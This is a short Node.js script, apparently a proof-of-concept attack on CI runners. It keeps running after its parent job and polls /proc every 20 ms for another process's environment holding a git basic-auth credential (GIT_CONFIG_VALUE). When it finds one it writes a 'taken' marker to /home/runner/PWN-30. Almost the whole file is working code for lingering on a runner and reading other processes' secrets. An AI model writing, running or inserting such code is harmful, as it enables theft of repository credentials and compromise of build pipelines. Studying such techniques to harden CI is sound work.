// Outlives the attempt that started it, unless it is killed, and takes the credential of a later git process from its environment.
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';

const OUT = '/home/runner/PWN-30';
setInterval(() => {
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    let environment = '';
    try {
      environment = readFileSync(`/proc/${pid}/environ`, 'latin1');
    } catch {
      continue;
    }
    if (!/GIT_CONFIG_VALUE_\d+=.*basic /i.test(environment)) continue;
    writeFileSync(OUT, 'taken');
    return;
  }
}, 20);
